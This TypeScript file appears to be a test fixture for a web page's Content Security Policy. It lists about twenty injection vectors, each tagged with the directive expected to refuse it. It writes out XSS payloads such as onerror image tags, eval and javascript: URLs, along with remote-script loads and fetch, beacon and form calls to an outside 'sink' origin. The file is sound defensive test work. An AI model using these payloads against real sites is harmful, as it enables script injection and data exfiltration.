/** One way to bring foreign code or traffic into the page, and what must stand in its way. */
export type Attempt = {
  name: string
  /** The directives of the policy of which one must say that it refused this; `fence` where only the window's fences can. */
  refusedBy: readonly string[]
  /** The lines that are run in the page. They know `sink` (an origin outside) and `hit()`, which code that ran calls. */
  text: string
}

/** A way in that people know by one name, with every form of it that is tried. */
export type Injection = { name: string; attempts: readonly Attempt[] }

const types = 'require-trusted-types-for'
const script = 'script-src-elem'

const attempt = (name: string, refusedBy: readonly string[], text: string): Attempt => ({ name, refusedBy, text })
const injection = (name: string, ...attempts: readonly Attempt[]): Injection => ({ name, attempts })

const append = (tag: string, set: string): string =>
  `const it = document.createElement('${tag}'); ${set}; document.body.append(it)`

/** Twenty ways in, as an injected text or a bad dependency would try them. Those that lead away from the page come last. */
export const injections: readonly Injection[] = [
  injection(
    'inline script',
    attempt('script text', [types], append('script', `it.textContent = 'hit()'`)),
    attempt('script child', [types, script], append('script', `it.append('hit()')`)),
  ),
  injection(
    'event handler attribute',
    attempt(
      'onclick',
      [types, 'script-src-attr'],
      `${append('button', `it.setAttribute('onclick', 'hit()')`)}; it.click()`,
    ),
  ),
  injection(
    'javascript: URL',
    attempt('link', [types, script], `${append('a', `it.href = 'javascript:hit()'`)}; it.click()`),
    attempt('location', [types, script], `location.href = 'javascript:hit()'`),
  ),
  injection('eval', attempt('eval', [types, 'script-src'], `eval('hit()')`)),
  injection('new Function', attempt('Function', [types, 'script-src'], `new Function('hit()')()`)),
  injection(
    'setTimeout with text',
    attempt('setTimeout', [types, 'script-src'], `setTimeout('hit()', 1)`),
    attempt(
      'setInterval',
      [types, 'script-src'],
      `const it = setInterval('hit()', 5); setTimeout(() => clearInterval(it), 50)`,
    ),
  ),
  injection(
    'remote script',
    attempt('src', [types], append('script', `it.src = sink + '/script'`)),
    attempt('importScripts', [types], `new Worker(sink + '/worker')`),
  ),
  injection('data: script', attempt('src', [types], append('script', `it.src = 'data:text/javascript,hit()'`))),
  injection(
    'blob: worker',
    attempt('Worker', [types], `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = hit`),
    attempt(
      'SharedWorker',
      [types],
      `const text = 'onconnect = (event) => event.ports[0].postMessage(1)'
      new SharedWorker(URL.createObjectURL(new Blob([text]))).port.onmessage = hit`,
    ),
  ),
  injection(
    'remote image, font or style',
    attempt('image', ['img-src'], append('img', `it.src = sink + '/image'`)),
    attempt('font', ['font-src'], `new FontFace('Foreign', 'url(' + sink + '/font)').load().catch(() => {})`),
    attempt('style sheet', ['style-src-elem'], append('link', `it.rel = 'stylesheet'; it.href = sink + '/style'`)),
    attempt(
      'style text',
      ['style-src-elem'],
      `${append('style', `it.textContent = 'body { --hit: 1 }'`)}
      if (getComputedStyle(document.body).getPropertyValue('--hit') !== '') hit()`,
    ),
    attempt(
      'style attribute',
      ['style-src-attr'],
      `${append('p', `it.setAttribute('style', '--hit: 1')`)}
      if (getComputedStyle(it).getPropertyValue('--hit') !== '') hit()`,
    ),
    attempt('media', ['media-src'], append('video', `it.src = sink + '/media'`)),
    attempt('prefetch', ['default-src'], append('link', `it.rel = 'prefetch'; it.href = sink + '/prefetch'`)),
    attempt('module preload', [script], append('link', `it.rel = 'modulepreload'; it.href = sink + '/module'`)),
  ),
  injection(
    'fetch, XHR, WebSocket, EventSource, sendBeacon',
    attempt('fetch', ['connect-src'], `await fetch(sink + '/fetch').catch(() => {})`),
    attempt('XHR', ['connect-src'], `const it = new XMLHttpRequest(); it.open('POST', sink + '/xhr'); it.send('x')`),
    attempt('WebSocket', ['connect-src'], `new WebSocket(sink.replace('http', 'ws') + '/socket')`),
    attempt('EventSource', ['connect-src'], `new EventSource(sink + '/events')`),
    attempt('sendBeacon', ['connect-src'], `navigator.sendBeacon(sink + '/beacon', 'x')`),
    attempt('keepalive', ['connect-src'], `await fetch(sink + '/alive', { keepalive: true }).catch(() => {})`),
  ),
  injection(
    'frame',
    attempt('src', ['frame-src'], append('iframe', `it.src = sink + '/frame'`)),
    attempt('data:', ['frame-src'], append('iframe', `it.src = 'data:text/html,<script>parent.hit()</script>'`)),
    attempt('blob:', ['frame-src'], append('iframe', `it.src = URL.createObjectURL(new Blob(['x']))`)),
    attempt('srcdoc', [types], append('iframe', `it.srcdoc = '<script>parent.hit()</script>'`)),
    attempt('our own page', ['frame-src'], append('iframe', `it.src = location.href`)),
  ),
  injection(
    'object or embed',
    attempt('object', [types, 'object-src'], append('object', `it.data = sink + '/object'`)),
    attempt('embed', [types, 'object-src'], append('embed', `it.src = sink + '/embed'`)),
  ),
  injection(
    'form post',
    attempt(
      'form',
      ['form-action'],
      `${append('form', `it.method = 'post'; it.action = sink + '/form'`)}; it.submit()`,
    ),
    attempt('form get', ['form-action'], `${append('form', `it.action = sink + '/form'`)}; it.requestSubmit()`),
  ),
  injection(
    'base',
    attempt(
      'base',
      ['base-uri'],
      `${append('base', `it.href = sink + '/base/'`)}; if (document.baseURI.startsWith(sink)) hit()`,
    ),
  ),
  injection(
    'innerHTML',
    attempt('innerHTML', [types], append('div', `it.innerHTML = '<img src=x onerror=hit()>'`)),
    attempt('outerHTML', [types], `${append('div', '')}; it.outerHTML = '<img src=x onerror=hit()>'`),
    attempt(
      'insertAdjacentHTML',
      [types],
      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')`,
    ),
    attempt('document.write', [types], `document.write('<script>hit()</script>')`),
    attempt('DOMParser', [types], `new DOMParser().parseFromString('<b>x</b>', 'text/html'); hit()`),
    attempt('createContextualFragment', [types], `new Range().createContextualFragment('<b>x</b>'); hit()`),
  ),
  injection(
    'dynamic import',
    attempt('data:', [script], `await import('data:text/javascript,hit()').catch(() => {})`),
    attempt(
      'blob:',
      [script],
      `await import(URL.createObjectURL(new Blob(['hit()'], { type: 'text/javascript' }))).catch(() => {})`,
    ),
    attempt('remote', [script], `await import(sink + '/import').catch(() => {})`),
  ),
  injection(
    'service worker',
    // The script is never had from here; that it was asked for is already too much.
    attempt(
      'register',
      [types],
      `await navigator.serviceWorker.register('/assets/service.js').catch((error) => {
        if (!error.message.includes('Trusted')) hit()
      })`,
    ),
  ),
  injection(
    'window.open',
    attempt('open', ['fence'], `if (window.open(sink + '/open') !== null) hit()`),
    attempt('target', ['fence'], `${append('a', `it.href = sink + '/blank'; it.target = '_blank'`)}; it.click()`),
  ),
  injection(
    'meta refresh',
    attempt('meta', ['fence'], append('meta', `it.httpEquiv = 'refresh'; it.content = '0;url=' + sink + '/refresh'`)),
    attempt('location', ['fence'], `location.href = sink + '/location'`),
    attempt('link', ['fence'], `${append('a', `it.href = sink + '/link'`)}; it.click()`),
  ),
]
